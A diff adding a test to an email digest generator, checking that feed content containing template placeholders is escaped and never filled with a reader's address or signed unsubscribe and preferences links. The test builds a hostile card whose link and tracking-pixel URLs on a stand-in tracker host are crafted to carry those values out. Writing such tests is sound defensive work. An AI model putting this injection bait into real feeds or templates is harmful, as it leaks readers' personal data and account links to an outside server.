@@ -364,3 +364,32 @@ def test_a_segment_with_no_stories_still_makes_a_valid_message(settings: Setting
     message = parse(personalize(template_for(settings, rendered), JANE))
     assert message["Subject"] == "The Morning Digest"
     assert "100 Main Street" in parts(message)[1]
+
+
+def test_content_that_spells_a_placeholder_never_receives_a_readers_values() -> None:
+    """A feed carrying "__DIGEST_EMAIL__" must not make each copy send its reader's address
+    and signed links to the feed's server."""
+    bait = "e=__DIGEST_EMAIL__&p=__DIGEST_PREFERENCES_URL__&u=___DIGEST_UNSUBSCRIBE_URL__"
+    hostile = digests.card(
+        0,
+        title="Win a prize, __DIGEST_GREETING__ __DIGEST_EMAIL__",
+        summary="Claim it: __DIGEST_UNSUBSCRIBE_URL__",
+        url=f"https://tracker.example/story?{bait}",
+        image_url=f"https://tracker.example/pixel.gif?{bait}",
+        image_alt="__DIGEST_EMAIL__",
+        author="__DIGEST_EMAIL__",
+    )
+    sections = [Section(TOP, "Top stories __DIGEST_EMAIL__", (hostile,))]
+    reader = Reader(5, 41, "jane.reader@example.org", "Jane")
+    html, text = parts(parse(digests.digest_message(sections, reader)))
+
+    pixel = re.search(r'src="(https://tracker\.example/[^"]*)"', html)
+    assert pixel is not None
+    assert pixel.group(1) == (
+        "https://tracker.example/pixel.gif?e=_DIGEST_EMAIL__&amp;p=_DIGEST_PREFERENCES_URL__"
+        "&amp;u=_DIGEST_UNSUBSCRIBE_URL__"
+    )
+    assert "Win a prize, _DIGEST_GREETING__ _DIGEST_EMAIL__" in html
+    for part in (html, text):  # the reader's address only where the footer says why they get it
+        assert part.count("jane.reader@example.org") == 1
+        assert "Claim it: _DIGEST_UNSUBSCRIBE_URL__" in part
